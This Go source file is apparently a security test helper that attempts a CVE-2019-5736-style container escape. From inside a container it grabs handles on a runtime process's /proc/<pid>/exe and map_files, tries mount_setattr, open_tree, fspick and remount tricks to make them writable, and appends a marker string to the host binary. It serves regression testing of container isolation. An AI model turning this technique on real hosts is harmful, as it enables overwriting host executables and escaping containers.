// Command exeattack is the container side of the CVE-2019-5736 class of
// attacks that test/integration/security_exe_test.go runs: from inside a
// container it waits for a process of its pid namespace that runs lkc (it
// knows lkc by the binary's size, -size), takes a handle on that process's
// /proc/<pid>/exe and its /proc/<pid>/map_files, tries every way it knows to
// make a handle writable (mount_setattr, a clone of the mount, fspick and
// reconfigure, a remount), and once that process has exited or execed
// reopens each handle for writing and appends to it. It prints what happened, one
// line per step, and "DONE" last. A line starting "WROTE" means it changed
// the binary some lkc runs from; "RECONFIGURED" that it reconfigured the
// superblock of the file system behind a handle (read-write: on a host file
// system it could as well have made it read-only).
//
// It is built static (CGO_ENABLED=0) because the test rootfs has no libc.
package main

import (
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	size := flag.Int64("size", 0, "size in bytes of the lkc binary to look for")
	timeout := flag.Duration("timeout", 60*time.Second, "give up after")
	flag.Parse()
	deadline := time.Now().Add(*timeout)
	fmt.Println("ready")
	pid, exe := hunt(*size, deadline)
	if exe < 0 {
		fmt.Println("NOT-FOUND")
		fmt.Println("DONE")
		stay()
	}
	fmt.Printf("HOLDING pid %d exe %s\n", pid, link(exe))
	handles := map[string]int{"exe": exe}
	for name, fd := range mapFiles(pid, *size) {
		handles[name] = fd
	}
	clones := map[string]int{}
	for name, fd := range handles {
		for n, clone := range unlock(name, fd) {
			clones[n] = clone
		}
	}
	for name, fd := range clones {
		handles[name] = fd
	}
	waitGone(pid, exe, deadline)
	for name, fd := range handles {
		write(name, fd, deadline)
	}
	fmt.Println("DONE")
	stay()
}

// stay keeps the attacker, the init of its pid namespace, alive: its exit
// would kill the processes the test still runs there.
func stay() {
	for {
		unix.Pause()
	}
}

// waitGone waits until pid no longer runs the file exe is a handle on.
func waitGone(pid, exe int, deadline time.Time) {
	var held unix.Stat_t
	if unix.Fstat(exe, &held) != nil {
		return
	}
	for time.Now().Before(deadline) {
		var st unix.Stat_t
		if unix.Stat("/proc/"+strconv.Itoa(pid)+"/exe", &st) != nil || st.Dev != held.Dev || st.Ino != held.Ino {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// hunt waits for a process other than this one whose executable has the
// given size and returns its pid and an O_PATH handle on its exe. The newest
// pids are tried in a tight loop: a process of `lkc exec` lives in the pid
// namespace for well under a millisecond before it execs.
func hunt(size int64, deadline time.Time) (int, int) {
	self := os.Getpid()
	for i := 0; time.Now().Before(deadline); i++ {
		last := lastPid()
		candidates := []int{}
		for p := last - 16; p <= last+2; p++ {
			candidates = append(candidates, p)
		}
		if i%256 == 0 {
			candidates = append(candidates, listPids()...)
		}
		for _, p := range candidates {
			if p <= 0 || p == self {
				continue
			}
			fd, err := unix.Open("/proc/"+strconv.Itoa(p)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if fileSize(fd) == size && !sameFile(fd, "/proc/self/exe") {
				return p, fd
			}
			unix.Close(fd)
		}
	}
	return 0, -1
}

func lastPid() int {
	data, _ := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	n, _ := strconv.Atoi(strings.TrimSpace(string(data)))
	return n
}

func listPids() []int {
	entries, _ := os.ReadDir("/proc")
	var pids []int
	for _, e := range entries {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			pids = append(pids, n)
		}
	}
	return pids
}

func fileSize(fd int) int64 {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return -1
	}
	return st.Size
}

func sameFile(fd int, path string) bool {
	var a, b unix.Stat_t
	return unix.Fstat(fd, &a) == nil && unix.Stat(path, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino
}

func link(fd int) string {
	s, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	if err != nil {
		return err.Error()
	}
	return s
}

// mapFiles takes handles on the files pid maps that have the binary's size:
// for an overlayfs file these are the files of the layer below.
func mapFiles(pid int, size int64) map[string]int {
	dir := "/proc/" + strconv.Itoa(pid) + "/map_files/"
	entries, err := os.ReadDir(dir)
	if err != nil {
		fmt.Printf("map_files: %v\n", err)
	}
	handles := map[string]int{}
	seen := map[[2]uint64]bool{}
	for _, e := range entries {
		fd, err := unix.Open(dir+e.Name(), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		key := [2]uint64{}
		if unix.Fstat(fd, &st) == nil {
			key = [2]uint64{st.Dev, st.Ino}
		}
		if fileSize(fd) != size || seen[key] {
			unix.Close(fd)
			continue
		}
		seen[key] = true
		name := "map_files/" + e.Name()
		fmt.Printf("HOLDING %s -> %s\n", name, link(fd))
		handles[name] = fd
	}
	return handles
}

// unlock tries to make the mount behind fd writable, in place and on a
// clone of it, and returns the clones it made.
func unlock(name string, fd int) map[string]int {
	clones := map[string]int{}
	report(name, "mount_setattr -RDONLY", setattrRW(fd))
	reconfigure(name, fd)
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	report(name, "remount bind rw", unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	report(name, "remount rw", unix.Mount("", path, "", unix.MS_REMOUNT, ""))
	clone, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	report(name, "open_tree clone", err)
	if err == nil {
		report(name+"+clone", "mount_setattr -RDONLY", setattrRW(clone))
		reconfigure(name+"+clone", clone)
		clones[name+"+clone"] = clone
	}
	return clones
}

func setattrRW(fd int) error {
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	return unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr)
}

// reconfigure tries to reconfigure the superblock behind fd read-write.
func reconfigure(name string, fd int) {
	fs, err := unix.Fspick(fd, "", unix.FSPICK_EMPTY_PATH|unix.FSPICK_CLOEXEC)
	if err == nil {
		defer unix.Close(fs)
		if err = unix.FsconfigSetFlag(fs, "rw"); err == nil {
			err = unix.FsconfigReconfigure(fs)
		}
	}
	if err == nil {
		fmt.Printf("RECONFIGURED %s: fspick, then rw\n", name)
	} else {
		report(name, "fspick rw", err)
	}
}

func report(name, what string, err error) {
	if err != nil {
		fmt.Printf("%s: %s: %v\n", name, what, err)
	} else {
		fmt.Printf("%s: %s: ok\n", name, what)
	}
}

// write reopens fd for appending, waiting while the file is a busy text
// (some process still runs it: that only hides the answer), and appends to
// it, which leaves a binary that still runs.
func write(name string, fd int, deadline time.Time) {
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	for {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY && time.Now().Before(deadline) {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		if err != nil {
			fmt.Printf("OPEN-DENIED %s: %v\n", name, err)
			return
		}
		_, err = unix.Write(w, []byte("exeattack was here"))
		unix.Close(w)
		if err != nil {
			fmt.Printf("WRITE-DENIED %s: %v\n", name, err)
		} else {
			fmt.Printf("WROTE %s (%s)\n", name, link(fd))
		}
		return
	}
}
